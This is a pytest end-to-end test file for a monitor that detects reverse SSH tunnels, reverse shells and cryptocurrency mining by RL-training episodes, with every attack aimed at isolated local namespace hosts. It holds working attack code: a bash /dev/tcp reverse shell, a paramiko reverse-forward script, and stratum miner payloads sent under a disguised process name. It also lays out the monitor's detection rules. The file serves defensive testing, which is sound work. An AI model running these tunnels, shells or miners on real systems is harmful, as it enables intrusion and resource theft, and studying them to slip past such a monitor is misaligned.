"""End to end: real OpenSSH, paramiko, stratum clients, DNS and a reverse shell
against namespace hosts, seen by a real monitor and attributed to the episode
set in the launching worker's environment.

Hosts, at the free 198.51.100.0/24 and 2001:db8:51::/64 addresses taken at run time:
the "outside" attacker host (sshd on 22 and 443, a fake pool on 3333/443/8080 and on
its IPv6 address :3333, DNS, a shell listener) and an allowlisted SSH host for
git/rsync.  Nothing leaves the machine.
"""

from __future__ import annotations

import dataclasses
import shutil
import subprocess
import sys
import textwrap
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from monitor.config import load_config
from monitor.lab.outside import OutsideHost, kill_tree, visit_forwarded_port
from monitor.sensor.dns import build_query
from tests.support.episodes import alerts, episode, in_test_episode, wait_alert, worker_env
from tests.support.live import LiveMonitor

pytestmark = pytest.mark.e2e

CORPUS = Path(__file__).resolve().parents[1] / "corpus"


@pytest.fixture(scope="module")
def attacker() -> Iterator[OutsideHost]:
    h = OutsideHost()
    h.up()
    try:
        h.start_sshd(ports=(22, 443))
        h.start_pool(ports=(3333, 443, 8080))
        h.start_dns()
        yield h
    finally:
        h.down()


@pytest.fixture(scope="module")
def bastion() -> Iterator[OutsideHost]:
    h = OutsideHost()
    h.up()
    try:
        h.start_sshd(ports=(22,))
        h.start_tcp_sink(8545)
        h.start_tcp_sink(6379)
        h.start_tcp_sink(29500)
        h.start_tcp_sink(8000)
        yield h
    finally:
        h.down()


@pytest.fixture(scope="module")
def mon(bastion: OutsideHost) -> Iterator[LiveMonitor]:
    cfg = load_config(None)
    cfg = dataclasses.replace(
        cfg,
        allowlist=dataclasses.replace(cfg.allowlist, ssh_destinations=(f"{bastion.ip4}/32",)),
    )
    m = LiveMonitor(cfg, keep=in_test_episode).start()
    try:
        yield m
    finally:
        m.stop()


@pytest.fixture(scope="module")
def web() -> Iterator[int]:
    """The host-internal service a reverse tunnel exposes: 127.0.0.1:8081."""
    p = subprocess.Popen(
        [sys.executable, "-m", "http.server", "8081", "--bind", "127.0.0.1"],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    time.sleep(0.5)
    try:
        yield 8081
    finally:
        kill_tree(p)


def assert_common(alert: dict, ep: str) -> None:
    assert alert["rl"]["episode_id"] == ep
    assert alert["rl"]["worker_id"] == "w-e2e"
    assert alert["rl"]["lineage"], "lineage attached"
    assert alert["threat"]["technique"]
    assert alert["event"]["severity"] in (21, 47, 73, 99)
    assert alert["rlguard"]["alert"]["evidence"]


def run_tunnel(
    host: OutsideHost, ep: str, ssh_opts: list[str], port: int = 22, remote_port: int = 9000
) -> subprocess.Popen[bytes]:
    cmd = ["ssh", *host.ssh_args(port), "-N", *ssh_opts, f"root@{host.ip4}"]
    return subprocess.Popen(cmd, env=worker_env(ep), start_new_session=True)


# -- reverse tunnels ------------------------------------------------------------


@pytest.mark.parametrize("port", [22, 443])
def test_openssh_reverse_tunnel(mon, attacker, web, port) -> None:
    ep = episode()
    remote = 9000 + port
    p = run_tunnel(attacker, ep, ["-R", f"{remote}:127.0.0.1:{web}"], port=port)
    try:
        got = visit_forwarded_port(attacker, remote)
        assert b"HTTP/1.0 200" in got, "the tunnel really worked"
        behaviour = wait_alert(mon, ep, "RLG-TUN-001")
        assert_common(behaviour, ep)
        assert behaviour["rlguard"]["alert"]["severity"] == "critical"
        assert behaviour["destination"] == {"ip": "127.0.0.1", "port": web}
        assert behaviour["process"]["name"] == "ssh"
        argv = wait_alert(mon, ep, "RLG-TUN-003")
        assert any(e["name"] == "ssh.remote_forward" for e in argv["rlguard"]["alert"]["evidence"])
        if port == 443:
            proto = wait_alert(mon, ep, "RLG-TUN-002")
            names = {e["name"] for e in proto["rlguard"]["alert"]["evidence"]}
            assert "ssh.non_ssh_port" in names
    finally:
        kill_tree(p)


def test_remote_forward_option(mon, attacker, web) -> None:
    ep = episode()
    p = run_tunnel(attacker, ep, ["-oRemoteForward=9100 127.0.0.1:8081"])
    try:
        assert b"200" in visit_forwarded_port(attacker, 9100)
        wait_alert(mon, ep, "RLG-TUN-001")
        a = wait_alert(mon, ep, "RLG-TUN-003")
        assert "9100" in a["rlguard"]["alert"]["evidence"][0]["detail"]
    finally:
        kill_tree(p)


def test_remote_forward_in_config_file(mon, attacker, web, tmp_path) -> None:
    ep = episode()
    cfg = tmp_path / "agent_ssh_config"
    cfg.write_text(f"Host {attacker.ip4}\n    RemoteForward 9200 127.0.0.1:8081\n")
    p = run_tunnel(attacker, ep, ["-F", str(cfg)])
    try:
        assert b"200" in visit_forwarded_port(attacker, 9200)
        wait_alert(mon, ep, "RLG-TUN-001")
        a = wait_alert(mon, ep, "RLG-TUN-003")
        assert any(e["kind"] == "config" for e in a["rlguard"]["alert"]["evidence"])
    finally:
        kill_tree(p)


PARAMIKO_REVERSE = textwrap.dedent(
    """
    # a reverse forward written with paramiko: no ssh binary involved
    import socket, sys, threading, paramiko
    host, key, rport, lport = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
    client = paramiko.SSHClient()
    client.set_missing_host_key_policy(paramiko.AutoAddPolicy())
    client.connect(host, 22, username="root", key_filename=key, look_for_keys=False,
                   allow_agent=False)
    t = client.get_transport()
    t.request_port_forward("127.0.0.1", rport)
    print("ready", flush=True)
    while True:
        ch = t.accept(30)
        if ch is None:
            break
        local = socket.create_connection(("127.0.0.1", lport))
        local.sendall(ch.recv(1024))
        ch.sendall(local.recv(1024))
        ch.close(); local.close()
    """
)


def test_paramiko_reverse_forward(mon, attacker, web) -> None:
    ep = episode()
    p = subprocess.Popen(
        [
            sys.executable,
            "-c",
            PARAMIKO_REVERSE,
            attacker.ip4,
            str(attacker.client_key),
            "9300",
            str(web),
        ],
        env=worker_env(ep),
        stdout=subprocess.PIPE,
        start_new_session=True,
    )
    try:
        assert p.stdout is not None and p.stdout.readline().strip() == b"ready"
        proto = wait_alert(mon, ep, "RLG-TUN-002")
        names = {e["name"] for e in proto["rlguard"]["alert"]["evidence"]}
        assert "ssh.unknown_client" in names
        assert "paramiko" in proto["rlguard"]["alert"]["ssh_banner"].lower()
        assert b"200" in visit_forwarded_port(attacker, 9300)
        behaviour = wait_alert(mon, ep, "RLG-TUN-001")
        assert behaviour["process"]["pid"] == p.pid
    finally:
        kill_tree(p)


def test_bash_dev_tcp_reverse_shell(mon, attacker) -> None:
    ep = episode()
    out = attacker.start_shell_listener(4444)
    cmd = f"bash -i >& /dev/tcp/{attacker.ip4}/4444 0>&1"
    p = subprocess.Popen(
        ["bash", "-c", cmd],
        env=worker_env(ep),
        start_new_session=True,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        p.wait(timeout=20)
        a = wait_alert(mon, ep, "RLG-SHL-001")
        assert_common(a, ep)
        assert a["rlguard"]["alert"]["severity"] == "critical"
        assert b"rlguard-shell-ok" in out.read_bytes()
    finally:
        kill_tree(p)


# -- mining -----------------------------------------------------------------------


def innocent_python(tmp_path: Path) -> Path:
    """The interpreter under a name that says nothing."""
    exe = tmp_path / "data-loader"
    shutil.copy(sys.executable, exe)
    return exe


SEND_FIRST = "import socket,sys\ns=socket.create_connection((sys.argv[1],int(sys.argv[2])),timeout=5)\ns.sendall(bytes.fromhex(sys.argv[3]))\ns.recv(100)\n"  # noqa: E501


def stratum_cases() -> list[tuple[str, bytes]]:
    """Byte-exact first messages of three miners; tests/corpus/mining/cases.toml cites
    the source (XMRig Client.cpp, cpuminer util.c, ethminer EthStratumClient.cpp)."""
    payloads = CORPUS / "mining" / "payloads"
    return [
        (name, (payloads / f"{name}.bin").read_bytes())
        for name in ("xmrig_login", "cpuminer_subscribe", "ethminer_ethproxy")
    ]


@pytest.mark.parametrize("case", stratum_cases(), ids=lambda c: c[0])
@pytest.mark.parametrize("target", ["v4:3333", "v4:443", "v4:8080", "v6:3333"])
def test_stratum_client_any_port_any_name(mon, attacker, tmp_path, case, target) -> None:
    ep = episode()
    fam, port = target.split(":")
    ip = attacker.ip4 if fam == "v4" else attacker.ip6
    exe = innocent_python(tmp_path)
    res = subprocess.run(
        [str(exe), "-c", SEND_FIRST, ip, port, case[1].hex()], env=worker_env(ep), timeout=20
    )
    assert res.returncode == 0
    a = wait_alert(mon, ep, "RLG-MIN-001")
    assert_common(a, ep)
    assert a["rlguard"]["alert"]["severity"] == "critical"
    assert a["process"]["name"] == "data-loader"
    assert a["destination"]["port"] == int(port)
    assert a["destination"]["ip"] == ip


def test_tls_pool_client_caught_by_argv(mon, attacker, tmp_path) -> None:
    ep = episode()
    exe = tmp_path / "xmrig"
    shutil.copy(sys.executable, exe)
    # a TLS ClientHello start: unreadable payload, only the command line tells
    hello = bytes.fromhex("160301020001000200") + b"\x03\x03" + bytes(32)
    script = tmp_path / "tls.py"
    script.write_text(SEND_FIRST)
    res = subprocess.run(
        [
            str(exe),
            str(script),
            attacker.ip4,
            "443",
            hello.hex(),
            "-o",
            f"stratum+ssl://{attacker.ip4}:443",
            "--donate-level",
            "1",
            "-u",
            "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A",
        ],  # noqa: E501
        env=worker_env(ep),
        timeout=20,
    )
    assert res.returncode == 0
    a = wait_alert(mon, ep, "RLG-MIN-002")
    assert_common(a, ep)
    assert a["rlguard"]["alert"]["severity"] in ("high", "critical")
    time.sleep(0.3)
    assert not [x for x in alerts(mon, ep) if x["rule"]["id"] == "RLG-MIN-001"]


def test_pool_domain_dns(mon, attacker) -> None:
    ep = episode()
    code = (
        "import socket,sys\n"
        "u=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); u.settimeout(3)\n"
        "u.sendto(bytes.fromhex(sys.argv[2]),(sys.argv[1],53)); print(len(u.recv(512)))\n"
    )
    q = build_query("gulf.moneroocean.stream", qtype=1)
    res = subprocess.run(
        [sys.executable, "-c", code, attacker.ip4, q.hex()],
        env=worker_env(ep),
        capture_output=True,
        timeout=20,
    )
    assert res.returncode == 0 and int(res.stdout) > len(q), "the namespace DNS server answered"
    a = wait_alert(mon, ep, "RLG-MIN-003")
    assert_common(a, ep)
    assert a["dns"]["question"]["name"] == "gulf.moneroocean.stream"


def test_tunnel_service_dns(mon, attacker) -> None:
    ep = episode()
    code = (
        "import socket,sys\n"
        "u=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); u.settimeout(3)\n"
        "u.sendto(bytes.fromhex(sys.argv[2]),(sys.argv[1],53)); u.recv(512)\n"
    )
    q = build_query("quiet-forest-1234.trycloudflare.com", qtype=1)
    subprocess.run(
        [sys.executable, "-c", code, attacker.ip4, q.hex()],
        env=worker_env(ep),
        check=True,
        timeout=20,
    )
    a = wait_alert(mon, ep, "RLG-TUN-005")
    assert a["dns"]["question"]["name"] == "quiet-forest-1234.trycloudflare.com"


# -- benign look-alikes: silent ---------------------------------------------------


def assert_silent(mon: LiveMonitor, ep: str, seen_pred) -> None:
    """Wait until the monitor has seen the action, then check no alert carries the episode."""
    mon.wait_for(seen_pred, timeout=15)
    time.sleep(0.5)
    got = alerts(mon, ep)
    assert not got, [(a["rule"]["id"], a["event"]["reason"]) for a in got]


def saw_exec(ep: str, name: str):
    return lambda d: (
        d["event"]["action"] == "exec"
        and d.get("rl", {}).get("episode_id") == ep
        and d["process"]["name"] == name
    )


def saw_connect(ep: str, port: int):
    return lambda d: (
        d["event"]["action"] == "connect"
        and d.get("rl", {}).get("episode_id") == ep
        and d.get("destination", {}).get("port") == port
    )


@pytest.mark.parametrize(
    "opts",
    [["-L", "18080:127.0.0.1:8000", "-N"], ["-D", "11080", "-N"], ["true"]],
    ids=["local-forward", "dynamic", "plain-command"],
)
def test_ssh_without_reverse_forward_is_silent(mon, bastion, opts) -> None:
    ep = episode()
    cmd = ["ssh", *bastion.ssh_args(22)]
    if opts[-1] == "-N":
        cmd += opts + [f"root@{bastion.ip4}"]
    else:
        cmd += [f"root@{bastion.ip4}", *opts]
    p = subprocess.Popen(cmd, env=worker_env(ep), start_new_session=True)
    try:
        assert_silent(mon, ep, saw_connect(ep, 22))
        time.sleep(1.0)  # session established; still silent
        assert not alerts(mon, ep)
    finally:
        kill_tree(p)


def test_plain_ssh_outside_configured_allowlist_is_medium(mon, attacker) -> None:
    ep = episode()
    subprocess.run(
        ["ssh", *attacker.ssh_args(22), f"root@{attacker.ip4}", "true"],
        env=worker_env(ep),
        timeout=30,
        check=True,
    )
    a = wait_alert(mon, ep, "RLG-TUN-002")
    assert a["rlguard"]["alert"]["severity"] == "medium"
    assert {e["name"] for e in a["rlguard"]["alert"]["evidence"]} == {"ssh.outside_allowlist"}


def test_git_and_rsync_over_ssh_to_allowlisted_host(mon, bastion, tmp_path) -> None:
    ep = episode()
    bastion.in_ns("git", "init", "-q", "--bare", str(tmp_path / "repo.git"))
    ssh_cmd = " ".join(["ssh", *bastion.ssh_args(22)])
    env = {**worker_env(ep), "GIT_SSH_COMMAND": ssh_cmd}
    res = subprocess.run(
        ["git", "clone", "-q", f"root@{bastion.ip4}:{tmp_path}/repo.git", str(tmp_path / "clone")],
        env=env,
        capture_output=True,
        timeout=60,
    )
    assert res.returncode == 0, res.stderr
    (tmp_path / "data.txt").write_text("x" * 1000)
    res = subprocess.run(
        [
            "rsync",
            "-e",
            ssh_cmd,
            str(tmp_path / "data.txt"),
            f"root@{bastion.ip4}:{tmp_path}/copy.txt",
        ],
        env=env,
        capture_output=True,
        timeout=60,
    )
    assert res.returncode == 0, res.stderr
    assert_silent(mon, ep, saw_connect(ep, 22))


BENIGN_PAYLOADS = {
    "jsonrpc-8545": (8545, b'{"jsonrpc":"2.0","method":"eth_blockNumber","params":[],"id":1}'),
    "lsp-initialize": (
        8000,
        b'Content-Length: 120\r\n\r\n{"jsonrpc":"2.0","id":0,"method":'
        b'"initialize","params":{"processId":1,"rootUri":null}}',
    ),
    "mcp-initialize": (
        8000,
        b'{"jsonrpc":"2.0","id":0,"method":"initialize","params":'
        b'{"protocolVersion":"2025-06-18","capabilities":{}}}\n',
    ),
    "http-post-method": (
        8000,
        b"POST /api HTTP/1.1\r\nHost: x\r\nContent-Type: application/json"
        b'\r\nContent-Length: 27\r\n\r\n{"method":"upload","id":7}',
    ),
    # torch.distributed TCPStore's first bytes (validate), from the corpus (cited there)
    "torch-rendezvous-29500": (
        29500,
        (CORPUS / "mining" / "payloads" / "torch_tcpstore_validate.bin").read_bytes(),
    ),
    "redis-6379": (6379, b"*1\r\n$4\r\nPING\r\n"),
}


@pytest.mark.parametrize("name", sorted(BENIGN_PAYLOADS))
def test_benign_protocols_are_silent(mon, bastion, name) -> None:
    ep = episode()
    port, data = BENIGN_PAYLOADS[name]
    subprocess.run(
        [
            sys.executable,
            "-c",
            SEND_FIRST.replace("s.recv(100)", ""),
            bastion.ip4,
            str(port),
            data.hex(),
        ],
        env=worker_env(ep),
        check=True,
        timeout=20,
    )
    assert_silent(
        mon,
        ep,
        lambda d: d["event"]["action"] == "send" and d.get("rl", {}).get("episode_id") == ep,
    )


def test_curl_to_namespace_web_server_is_silent(mon, bastion) -> None:
    ep = episode()
    subprocess.run(
        ["curl", "-s", "-m", "5", "-o", "/dev/null", f"http://{bastion.ip4}:8000/"],
        env=worker_env(ep),
        timeout=20,
    )
    assert_silent(mon, ep, saw_connect(ep, 8000))


def test_grep_for_stratum_is_not_a_miner(mon, tmp_path) -> None:
    ep = episode()
    f = tmp_path / "notes.txt"
    f.write_text("pool: stratum+tcp://pool.example:3333\n")
    subprocess.run(
        ["grep", "stratum+tcp", str(f)], env=worker_env(ep), capture_output=True, timeout=10
    )
    assert_silent(mon, ep, saw_exec(ep, "grep"))


STALE_FD = textwrap.dedent(
    """
    import socket, subprocess, sys
    s = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=5)
    fd = s.fileno()
    s.sendall(b"hello"); s.close()            # the fd number is free again
    # a shell that puts an unrelated file on the same fd number, then on stdio
    cmd = f"exec {fd}</etc/hostname; exec 0<&{fd}; exec 1>&{fd}; sleep 0.5"
    subprocess.run(["bash", "-c", cmd])
    """
)


def test_reused_fd_number_is_not_a_reverse_shell(mon, bastion) -> None:
    ep = episode()
    subprocess.run(
        [sys.executable, "-c", STALE_FD, bastion.ip4, "8000"],
        env=worker_env(ep),
        check=True,
        timeout=30,
    )
    assert_silent(mon, ep, saw_exec(ep, "bash"))
